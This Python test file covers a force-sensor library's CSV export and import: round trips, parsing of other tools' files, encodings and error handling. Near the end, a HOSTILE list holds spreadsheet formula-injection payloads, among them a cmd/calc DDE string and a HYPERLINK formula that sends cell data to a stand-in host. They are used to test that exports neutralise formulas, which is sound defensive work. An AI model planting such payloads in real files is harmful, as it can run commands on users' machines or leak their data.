"""CSV export and import: round trips, other tools' files, the reference CSV, bad input."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pressure.errors import PressureError
from pressure.exchange import export_csv, import_csv, read_csv, zones_from_events
from pressure.recording import RecordingWriter, open_recording
from pressure.samples import G, Block


def read_export(path):
    """Header and rows of an exported CSV as a spreadsheet or ``pandas.read_csv(path)`` reads it:
    row 1 is the header, every other row is data."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    return rows[0], rows[1:]


def make_session(path, routine=None, n=3000, rate=1000.0):
    t = np.arange(n) / rate
    force = 30.0 * np.sin(np.pi * t / t[-1]) ** 2
    raw = np.round(force / 4.7e-5) + 8400
    meta = {"unit": "N", "labels": {"client": "Ann, #1", "muscle": "infraspinatus"},
            "calibration": {"sensor_id": "x", "zero": 8400.0, "scale": 4.7e-5, "raw_unit": "counts"},
            "routine": routine}
    with RecordingWriter(path, meta) as w:
        w.append(Block.make(t, raw, (raw - 8400) * 4.7e-5))
        w.add_event(1.0, "marker", "spot #2, left")
    return open_recording(path)


def test_export_has_header_row_columns_markers_and_a_metadata_file(tmp_path):
    rec = make_session(tmp_path / "s.pressure")
    out = export_csv(rec, tmp_path / "s.csv", unit="kgf")
    header, rows = read_export(out)
    assert header == ["time_s", "raw", "force_kgf", "smoothed_kgf", "zone", "marker"]
    assert len(rows) == len(rec)
    force = np.array([float(r[2]) for r in rows])
    np.testing.assert_allclose(force, rec.force_n / G, atol=5e-7)  # 6 decimals
    assert {len(r[2].split(".")[1]) for r in rows} == {len(r[3].split(".")[1]) for r in rows} == {6}
    np.testing.assert_array_equal(np.array([float(r[1]) for r in rows]), rec.raw)
    marked = [(float(r[0]), r[5]) for r in rows if r[5]]
    assert marked == [(1.0, "spot #2, left")]
    smoothed = np.array([float(r[3]) for r in rows])
    assert abs(smoothed[-1] - force[-1]) < abs(force).max() * 0.1  # a smoothed trace, same scale
    assert all(r[4] == "" for r in rows)  # no routine: zone left empty ...
    side = json.loads((tmp_path / "s.meta.json").read_text(encoding="utf-8"))
    assert side["zone"].startswith("empty (no routine")  # ... and the metadata says why
    assert side["csv"] == "s.csv" and side["export_unit"] == "kgf"
    assert side["metadata"]["labels"]["client"] == "Ann, #1"
    assert {"t": 1.0, "kind": "marker", "text": "spot #2, left"} in side["events"]
    for path in (out, tmp_path / "s.meta.json"):
        assert (path.stat().st_mode & 0o777) == 0o600


def test_export_refuses_existing_output_unless_forced(tmp_path):
    rec = make_session(tmp_path / "s.pressure", n=200)
    out = tmp_path / "keep.csv"
    out.write_text("precious")
    with pytest.raises(PressureError, match="already exists"):
        export_csv(rec, out)
    assert out.read_text() == "precious"
    export_csv(rec, out, force=True)
    assert out.read_text().startswith("time_s,raw,force_N,")
    # the metadata file beside it is kept the same way
    out2 = tmp_path / "other.csv"
    (tmp_path / "other.meta.json").write_text("precious")
    with pytest.raises(PressureError, match="already exists"):
        export_csv(rec, out2)
    assert (tmp_path / "other.meta.json").read_text() == "precious" and not out2.exists()
    with pytest.raises(PressureError, match="contact area"):
        export_csv(rec, tmp_path / "p.csv", unit="kPa")
    assert not (tmp_path / "p.csv").exists() and not (tmp_path / "p.meta.json").exists()


def test_export_never_overwrites_a_recording_even_forced(tmp_path, monkeypatch):
    rec = make_session(tmp_path / "s.pressure", n=200)
    other = tmp_path / "other.pressure"
    other.write_bytes(rec.path.read_bytes())
    before = {p: p.read_bytes() for p in (rec.path, other)}
    monkeypatch.chdir(tmp_path)
    for target in ("s.pressure", "./s.pressure", "other.pressure"):
        with pytest.raises(PressureError, match="is a recording; refusing"):
            export_csv(rec, target, force=True)
    assert {p: p.read_bytes() for p in before} == before
    assert not list(tmp_path.glob(".*.tmp"))  # no temporary file left behind


def test_export_unwritable_folder_is_one_clear_error(tmp_path, monkeypatch):
    import tempfile

    rec = make_session(tmp_path / "s.pressure", n=200)

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(PressureError, match=r"cannot write .*x\.csv: Permission denied"):
        export_csv(rec, tmp_path / "x.csv")
    with pytest.raises(PressureError, match="folder .* does not exist"):
        export_csv(rec, tmp_path / "nowhere" / "x.csv")


def test_zones_follow_the_coach_sample_by_sample(tmp_path):
    from pressure.coach import Coach
    from pressure.routine import single_hold

    routine = single_hold(target=20.0, tolerance=2.0, hold=0.8, ceiling=28.0, unit="N")
    t = np.arange(4000) / 1000.0
    rng = np.random.default_rng(1)
    value = 29.5 * np.sin(np.pi * t / 4.0) ** 2 + rng.normal(0, 0.3, t.size)
    coach = Coach(routine)
    expect = [coach.update(t[i:i + 1], value[i:i + 1]).zone for i in range(t.size)]
    whole = Coach(routine)
    whole.update(t, value)
    got = zones_from_events(t, value, routine, whole.events)
    assert set(expect) >= {"below", "in", "over"}
    assert got == expect


def test_export_fills_zone_when_the_session_has_a_routine(tmp_path):
    from pressure.routine import single_hold

    routine = single_hold(target=20.0, tolerance=3.0, hold=0.5, unit="N").to_dict()
    rec = make_session(tmp_path / "r.pressure", routine=routine)
    _, rows = read_export(export_csv(rec, tmp_path / "r.csv"))
    zones = {r[4] for r in rows}
    assert "in" in zones and "below" in zones


def test_export_import_round_trip_keeps_trace_and_labels(tmp_path):
    rec = make_session(tmp_path / "s.pressure")
    export_csv(rec, tmp_path / "s.csv", unit="lbf")
    report = import_csv(tmp_path / "s.csv", tmp_path / "back.pressure")
    back = open_recording(tmp_path / "back.pressure")
    assert report.force_unit == "lbf" and report.rows == len(rec)
    np.testing.assert_allclose(back.t, rec.t, atol=1e-6)
    np.testing.assert_allclose(back.force_n, rec.force_n, atol=3e-6)  # 6 decimals of lbf
    assert back.meta["labels"]["client"] == "Ann, #1"
    assert back.meta["kind"] == "imported" and back.meta["source"] == "s.csv"


def test_markers_and_step_events_survive_export_and_import(tmp_path):
    rec = make_session(tmp_path / "s.pressure", n=2000)
    with RecordingWriter(tmp_path / "e.pressure", dict(rec.meta)) as w:
        w.append(Block.make(rec.t + 5.0, rec.raw, rec.force_n))  # a session not starting at 0
        w.add_event(5.5, "step_start", "", {"step": 0})
        w.add_event(6.0, "marker", "spot #2, left")
        w.add_event(6.0, "marker", "again")
        w.add_event(6.5, "step_end", "", {"step": 0, "kind": "hold", "hold_elapsed": 1.0})
    src = open_recording(tmp_path / "e.pressure")
    csv_path = export_csv(src, tmp_path / "e.csv")
    report = import_csv(csv_path, tmp_path / "back.pressure")
    back = open_recording(tmp_path / "back.pressure")
    got = [(round(e.t + report.time_offset_s, 6), e.kind, e.text, e.data) for e in back.events]
    want = [(round(e.t, 6), e.kind, e.text, e.data) for e in src.events]
    assert sorted(got, key=str) == sorted(want, key=str)
    assert any("2 marker" in ln and "1 step_start" in ln for ln in report.lines())


def test_an_export_with_more_events_than_the_header_scan_imports(tmp_path):
    from pressure.exchange import HEADER_SCAN_LINES

    rec = make_session(tmp_path / "s.pressure", n=500)
    with RecordingWriter(tmp_path / "many.pressure", dict(rec.meta)) as w:
        w.append(Block.make(rec.t, rec.raw, rec.force_n))
        for k in range(HEADER_SCAN_LINES + 200):  # '# event:' lines above the table
            w.add_event(k * 1e-4, "marker", f"m{k}")
    csv_path = export_csv(open_recording(tmp_path / "many.pressure"), tmp_path / "many.csv")
    import_csv(csv_path, tmp_path / "back.pressure")
    back = open_recording(tmp_path / "back.pressure")
    assert len(back) == 500 and len(back.markers) == HEADER_SCAN_LINES + 200


def test_a_marker_column_of_another_tool_becomes_marker_events(tmp_path):
    src = tmp_path / "m.csv"
    src.write_text("time_ms,force,comment\n1000,1,\n1010,2,pain 3/10\n1020,3,\n1030,4,\"moved, left\"\n")
    report = import_csv(src, tmp_path / "m.pressure")
    rec = open_recording(tmp_path / "m.pressure")
    assert [(round(m.t, 6), m.text) for m in rec.markers] == [(0.01, "pain 3/10"), (0.03, "moved, left")]
    assert report.marker_column == "comment"
    assert "events: 2 marker (from column 'comment')" in report.lines()


def test_reference_static_fire_csv(tmp_path, reference_dir):
    src = reference_dir / "loadcell_static_fire_100hz.csv"
    report = import_csv(src, tmp_path / "fire.pressure")
    rec = open_recording(tmp_path / "fire.pressure")
    with src.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert report.rows == len(rows) == len(rec) and report.skipped == 0
    assert (report.time_column, report.force_column, report.force_unit) == ("time", "thrust", "N")
    np.testing.assert_array_equal(rec.force_n, [float(r["thrust"]) for r in rows])
    np.testing.assert_allclose(rec.t, [float(r["time"]) for r in rows], atol=1e-12)
    assert rec.rate_hz == pytest.approx(100.0, rel=1e-3)
    assert 2000 < rec.force_n.max() < 2500
    # and back out again: the exported force column is the file's thrust column
    _, out_rows = read_export(export_csv(rec, tmp_path / "fire.csv"))
    np.testing.assert_allclose([float(r[2]) for r in out_rows], [float(r["thrust"]) for r in rows],
                               rtol=0, atol=5e-7)  # 6 decimals: a micronewton


def test_weight_in_kg_from_a_training_app(tmp_path):
    src = tmp_path / "app.csv"
    src.write_text("time,weight\n0.0,0.5\n0.1,1.0\n0.2,2.0\n0.3,2.0\n")
    report = import_csv(src, tmp_path / "a.pressure")
    rec = open_recording(tmp_path / "a.pressure")
    assert report.force_unit == "kgf"
    assert any("kgf" in n for n in report.notes)
    np.testing.assert_allclose(rec.force_n, np.array([0.5, 1.0, 2.0, 2.0]) * G)
    assert rec.meta["unit"] == "kgf"


def test_arduino_logger_with_metadata_block_ms_and_grams(tmp_path):
    src = tmp_path / "logger.csv"
    src.write_text(
        "# HX711 logger v2\n"
        "calibration_factor,-7050\n"
        "Scale tared, place weight\n"
        "\n"
        "Times,Measures\n"
        "1000,0\n1012,150\n1025,300\n1037,300.5\n1050,299\n")
    trace = read_csv(src)
    r = trace.report
    assert (r.time_column, r.time_unit, r.force_column, r.force_unit) == ("Times", "ms", "Measures", "gf")
    assert r.header_line == 5
    assert r.metadata["calibration_factor"] == "-7050"
    assert "HX711 logger v2" in r.metadata["text"]
    assert "Scale tared" in str(r.metadata)  # free text above the header is kept, not lost
    np.testing.assert_allclose(trace.t, [0, 0.012, 0.025, 0.037, 0.050])
    assert r.time_offset_s == pytest.approx(1.0)
    assert any("milliseconds" in n for n in r.notes)


@pytest.mark.parametrize("header,scale,unit", [
    ("Time (s);Force (N)", 1.0, "N"), ("time_ms\tload_lb", 1e-3, "lbf"),
    ("t [s]|kg", 1.0, "kgf"), ("millis,force", 1e-3, "N")])
def test_units_from_header_names_and_other_separators(tmp_path, header, scale, unit):
    delim = next(c for c in ";\t|," if c in header)
    body = "\n".join(delim.join([str(k * 10), f"{k}.5"]) for k in range(5))
    if delim == ";":
        body = body.replace(".", ",")  # decimal commas in a ';' file
    src = tmp_path / "h.csv"
    src.write_text(f"{header}\n{body}\n")
    trace = read_csv(src)
    assert trace.report.force_unit == unit
    np.testing.assert_allclose(trace.t, np.arange(5) * 10 * scale)
    np.testing.assert_allclose(trace.value, np.arange(5) + 0.5)


def test_irregular_duplicate_and_backward_times_are_kept_and_sorted(tmp_path):
    src = tmp_path / "i.csv"
    src.write_text("time,force\n0.0,1\n0.01,2\n0.01,3\n0.035,4\n0.02,5\n0.05,6\n")
    trace = read_csv(src)
    assert trace.report.out_of_order == 1 and trace.report.duplicates == 1
    np.testing.assert_allclose(trace.t, [0, 0.01, 0.01, 0.02, 0.035, 0.05])
    np.testing.assert_array_equal(trace.value, [1, 2, 3, 5, 4, 6])  # stable: 2 before 3
    assert any("sorted" in n for n in trace.report.notes)


def test_garbage_rows_are_skipped_with_their_line_numbers(tmp_path):
    rows = [f"{k / 100},{k}" for k in range(40)]
    rows[4] = "0.04,ERR"
    rows[20] = "oops"
    src = tmp_path / "g.csv"
    src.write_text("time,force\n" + "\n".join(rows) + "\n")
    trace = read_csv(src)
    assert trace.report.rows == 38 and trace.report.skipped == 2
    assert [n for n, _ in trace.report.bad_rows] == [6, 22]
    assert "'ERR' is not a number" in trace.report.bad_rows[0][1]
    assert any("line 6" in ln for ln in trace.report.lines())


def test_a_binary_row_is_skipped_but_a_binary_file_refused(tmp_path):
    rows = [b"time,force"] + [f"{k / 100:.2f},{k}".encode() for k in range(40)]
    rows.insert(3, b"\x00\x13\xfe\x80,\x01")  # a serial glitch: line 4
    src = tmp_path / "glitch.csv"
    src.write_bytes(b"\n".join(rows) + b"\n")
    trace = read_csv(src)
    assert trace.report.rows == 40 and trace.report.skipped == 1
    assert trace.report.bad_rows[0][0] == 4 and "binary data" in trace.report.bad_rows[0][1]
    junk = tmp_path / "junk.csv"
    junk.write_bytes(b"time,force\n" + b"\x00\x01\x02,\x03\n" * 30 + b"0.1,2\n")
    with pytest.raises(PressureError, match="line 2 holds binary data"):
        read_csv(junk)


def test_mostly_garbage_fails_naming_rows(tmp_path):
    src = tmp_path / "bad.csv"
    src.write_text("time,force\n0,1\n0.1,2\n0.2,3\n" + "".join(f"x{k},y\n" for k in range(5)))
    out = tmp_path / "bad.pressure"
    with pytest.raises(PressureError, match=r"5 of 8 rows cannot be read.*line 5"):
        import_csv(src, out)
    assert not out.exists()


@pytest.mark.parametrize("content,message", [
    (b"", "empty"),
    (b"\n\n  \n", "empty"),
    (b"hello world\nthis is a letter\n", "no table of numbers"),
    (b"SQLite format 3\x00\x10\x00\x01\x01", "binary"),
    (b"a,b,c\n1,2,3\n4,5,6\n7,8,9\n", "no time column"),
    (b"time,x,y\n1,2,3\n4,5,6\n7,8,9\n", "cannot tell which column is the force"),
    (b"time,pressure (kPa)\n0,2\n1,5\n2,6\n", "a pressure"),
    (b"x" * 70000, "longer than"),
])
def test_bad_csv_files_give_clear_errors(tmp_path, content, message):
    src = tmp_path / "in.csv"
    src.write_bytes(content)
    with pytest.raises(PressureError, match=message):
        import_csv(src, tmp_path / "out.pressure")
    assert not (tmp_path / "out.pressure").exists()


def test_import_never_overwrites(tmp_path, reference_dir):
    out = tmp_path / "exists.pressure"
    out.write_text("mine")
    with pytest.raises(PressureError, match="already exists"):
        import_csv(reference_dir / "loadcell_static_fire_100hz.csv", out)
    assert out.read_text() == "mine"


@pytest.mark.parametrize("unit", ["furlong", "kPa"])
def test_import_unit_must_be_a_force_unit_and_says_which(tmp_path, unit):
    src = tmp_path / "x.csv"
    src.write_text("time,force\n0,1\n0.1,2\n")
    with pytest.raises(PressureError, match=r"force unit \(N, kN, mN, kgf, gf, lbf, ozf\)") as err:
        import_csv(src, tmp_path / "x.pressure", unit=unit)
    assert "kPa" not in str(err.value).split(":", 1)[1]  # lists no pressure units


def test_headerless_numbers_and_explicit_columns(tmp_path):
    src = tmp_path / "n.csv"
    src.write_text("0.000,1.5,9\n0.001,1.6,9\n0.002,1.7,9\n0.003,1.8,9\n")
    trace = read_csv(src, unit="kgf")
    assert trace.report.header_line is None and trace.report.force_unit == "kgf"
    np.testing.assert_allclose(trace.value, [1.5, 1.6, 1.7, 1.8])
    src2 = tmp_path / "c.csv"
    src2.write_text("stamp,a,b\n0,1,2\n1,3,4\n2,5,6\n")
    trace2 = read_csv(src2, time_column="stamp", force_column="B", time_unit="s")
    np.testing.assert_allclose(trace2.value, [2, 4, 6])
    with pytest.raises(PressureError, match="no force column named 'c'"):
        read_csv(src2, time_column="stamp", force_column="c")


finite = st.floats(-1e6, 1e6, allow_nan=False, allow_infinity=False)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.lists(finite, min_size=3, max_size=60),
       style=st.sampled_from([(",", "time,force"), (";", "Time (s);Force (N)"),
                              ("\t", "t\tload_N"), (",", "seconds,thrust")]),
       meta_lines=st.lists(st.sampled_from(["# device: HX711", "rate: 80", "operator,Bo"]), max_size=3))
def test_any_numbers_read_back_exactly(tmp_path_factory, values, style, meta_lines):
    delim, header = style
    t = np.arange(len(values)) * 0.0125
    body = "\n".join(f"{repr(float(a))}{delim}{repr(float(v))}" for a, v in zip(t, values))
    src = tmp_path_factory.mktemp("p") / "x.csv"
    src.write_text("\n".join([*meta_lines, header, body]) + "\n")
    trace = read_csv(src, unit="N")
    np.testing.assert_array_equal(trace.value, values)
    np.testing.assert_allclose(trace.t, t, atol=1e-12)
    assert trace.report.skipped == 0


def test_clock_time_stamps(tmp_path):
    src = tmp_path / "clock.csv"
    src.write_text("timestamp,force_kg\n2026-01-01T10:00:00.000,1\n2026-01-01T10:00:00.125,2\n"
                   "2026-01-01T10:00:00.250,3\nbad,4\n2026-01-01T10:00:00.375,5\n")
    trace = read_csv(src)
    np.testing.assert_allclose(trace.t, [0, 0.125, 0.25, 0.375], atol=1e-9)
    assert trace.report.force_unit == "kgf" and trace.report.skipped == 1
    src.write_text("time;N\n10:00:00.5;1\n10:00:01.5;2\n10:00:02.5;3\n")
    np.testing.assert_allclose(read_csv(src).t, [0, 1, 2])


HOSTILE = ["=1+1", "+cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?a="&A1,"click")',
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "x,=1+1", 'a","=1+1']


def test_export_cells_never_start_a_formula(tmp_path):
    """Markers, labels, event texts and metadata written so no spreadsheet cell runs a formula."""
    t = np.arange(2000) / 1000.0
    force = -5.0 + 10.0 * t  # negative numbers must stay numbers
    meta = {"unit": "N", "labels": {h: h for h in HOSTILE}, "note": HOSTILE,
            "=1+1, =2+2": "x, =3+3"}
    src = tmp_path / "h.pressure"
    with RecordingWriter(src, meta) as w:
        w.append(Block.make(t, force, force))
        for i, h in enumerate(HOSTILE):
            w.add_event(0.1 * (i + 1), "marker", h)
            w.add_event(0.1 * (i + 1) + 0.01, "note", h)
    out = export_csv(open_recording(src), tmp_path / "h.csv")
    with open(out, newline="", encoding="utf-8") as f:
        cells = [c for row in csv.reader(f) for c in row]
    bad = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
           or (c.startswith("-") and not _is_number(c))]
    assert bad == []
    header, rows = read_export(out)
    assert any(r[2].startswith("-") for r in rows)  # a negative force is still a number
    markers = [r[5] for r in rows if r[5]]
    assert "'=1+1" in markers and "'+cmd|' /C calc'!A0" in markers
    import_csv(out, tmp_path / "back.pressure")  # our own import reads the text back
    back = open_recording(tmp_path / "back.pressure")
    assert {"=1+1", "+cmd|' /C calc'!A0", "x,=1+1"} <= {e.text for e in back.markers}
    assert back.meta["labels"]["x,=1+1"] == "x,=1+1"


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("first", ["0.00,nan", "0.00,", "0.00,NaN", "0.00,NA"])
def test_import_finds_the_header_when_the_first_row_misses_a_value(tmp_path, first):
    """issue 15: ``time,force`` / ``0.00,nan`` gave "found no time column"."""
    src = tmp_path / "gap.csv"
    src.write_text("time,force\n" + first + "\n" + "".join(f"{i / 100:.2f},{i}\n" for i in range(1, 50)))
    report = import_csv(src, tmp_path / "gap.pressure")
    assert report.header_line == 1 and report.time_column == "time"
    assert report.rows == 49 and report.skipped == 1
    report = import_csv(src, tmp_path / "gap2.pressure", time_column="time", force_column="force")
    assert report.rows == 49


@pytest.mark.parametrize("encoding, bom, delim, said", [
    ("utf-8", b"", ",", "UTF-8"), ("utf-8", b"\xef\xbb\xbf", ",", "UTF-8"),
    ("utf-16-le", b"\xff\xfe", "\t", "UTF-16"), ("cp1252", b"", ",", "Windows-1252")])
def test_import_reads_the_encodings_people_have(tmp_path, encoding, bom, delim, said):
    """issue 15: cp1252 names became 'M\ufffdller'; UTF-16 with a BOM was refused as binary."""
    text = f"# client: Müller\ntime{delim}force\n" + "".join(
        f"{i / 100:.2f}{delim}{i}\n" for i in range(50))
    src = tmp_path / "enc.csv"
    src.write_bytes(bom + text.encode(encoding))
    trace = read_csv(src)
    assert len(trace.t) == 50
    assert any(said in n for n in trace.report.notes)
    assert "Müller" in str(trace.report.metadata)


def test_import_reads_a_european_excel_file_and_says_so(tmp_path):
    """issue 15: ';' between cells and decimal commas (0,5;12,3)."""
    src = tmp_path / "eu.csv"
    src.write_text("time;force_N\n" + "".join(
        f"{i / 100:.2f};{i + 0.5:.1f}\n".replace(".", ",") for i in range(50)), encoding="utf-8")
    trace = read_csv(src)
    np.testing.assert_allclose(trace.value[:3], [0.5, 1.5, 2.5])
    np.testing.assert_allclose(trace.t[:3], [0.0, 0.01, 0.02])
    assert any("';'" in n and "decimal commas" in n for n in trace.report.notes)
